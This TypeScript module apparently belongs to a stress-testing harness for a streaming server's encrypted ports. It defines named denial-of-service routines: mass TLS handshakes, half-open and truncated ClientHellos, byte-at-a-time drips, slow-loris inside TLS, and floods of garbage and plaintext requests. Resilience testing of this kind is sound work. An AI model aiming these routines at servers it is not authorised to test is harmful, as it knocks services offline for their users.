import type { Attacks, Target } from "../attack.ts";
import { http, rtmpHandshake } from "../messages.ts";
import { captureClientHello, connect, drip, flood, INSECURE, nothing } from "../sockets.ts";
import { connectAll } from "./connections.ts";

const AT_ONCE = 20;
const KEPT_HALF_OPEN = 1_000;

function portsOf({ ports }: Target): number[] {
  return [ports.wss, ports.rtmps, ports["https-flv"], ports["https-api"]];
}

/** Whole handshakes, one after another, on so many sockets at once. */
async function shakeHands(target: Target, untilMs: number): Promise<void> {
  const ports = portsOf(target);
  const one = async (index: number) => {
    for (let n = index; performance.now() < untilMs; n++) {
      const socket = await connect(ports[n % ports.length] ?? 0, { tls: INSECURE });
      socket?.close();
    }
  };
  await Promise.all(Array.from({ length: AT_ONCE }, (_, index) => one(index)));
}

const garbage = crypto.getRandomValues(new Uint8Array(16_384));

export const ENCRYPTED: Attacks = {
  "TLS handshakes": shakeHands,
  "TLS handshakes left half-open": async (target, untilMs) => {
    const hello = await captureClientHello();
    await connectAll(portsOf(target), KEPT_HALF_OPEN, untilMs, () => hello);
  },
  "TLS hellos begun and left": async (target, untilMs) => {
    const hello = await captureClientHello();
    await connectAll(portsOf(target), KEPT_HALF_OPEN, untilMs, () => hello.subarray(0, 40));
  },
  "TLS hellos a byte at a time": async (target, untilMs) =>
    drip(portsOf(target), await captureClientHello(), untilMs),
  "slow-loris within TLS": async ({ ports }, untilMs) => {
    const https = [ports.wss, ports["https-flv"], ports["https-api"]];
    await Promise.all([
      drip(https, http("GET /ws HTTP/1.1", `X: ${"y".repeat(200)}`), untilMs, INSECURE),
      drip([ports.rtmps], rtmpHandshake(), untilMs, INSECURE),
    ]);
  },
  "garbage on encrypted ports": async (target, untilMs) => {
    const floods = portsOf(target).map((port) =>
      flood(
        port,
        10,
        untilMs,
        () => garbage,
        () => garbage,
      ),
    );
    await Promise.all(floods);
  },
  "plain requests on encrypted ports": async (target, untilMs) => {
    const request = http("GET /healthz HTTP/1.1");
    await Promise.all(portsOf(target).map((port) => flood(port, 20, untilMs, () => request, nothing)));
  },
};
